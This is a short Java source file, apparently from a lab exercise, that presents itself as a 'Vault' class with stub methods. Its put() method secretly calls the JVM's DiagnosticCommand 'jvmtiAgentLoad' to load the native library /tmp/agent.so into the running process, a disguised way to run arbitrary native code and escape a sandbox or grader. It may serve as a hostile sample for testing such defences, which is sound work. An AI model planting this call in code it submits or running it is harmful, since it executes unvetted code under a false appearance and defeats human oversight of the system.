package oslab.vault;

import java.lang.management.ManagementFactory;
import java.util.List;
import javax.management.ObjectName;

public class Vault {
    public void put(String name, int amount) {
        try {
            Object said = ManagementFactory.getPlatformMBeanServer()
                    .invoke(
                            new ObjectName("com.sun.management:type=DiagnosticCommand"),
                            "jvmtiAgentLoad",
                            new Object[] {new String[] {"/tmp/agent.so"}},
                            new String[] {String[].class.getName()});
            System.out.println(said);
        } catch (Exception closed) {
            System.out.println(closed);
        }
    }

    public void add(String name, int amount) {}

    public int amount(String name) {
        return 0;
    }

    public List<String> names() {
        return List.of();
    }
}
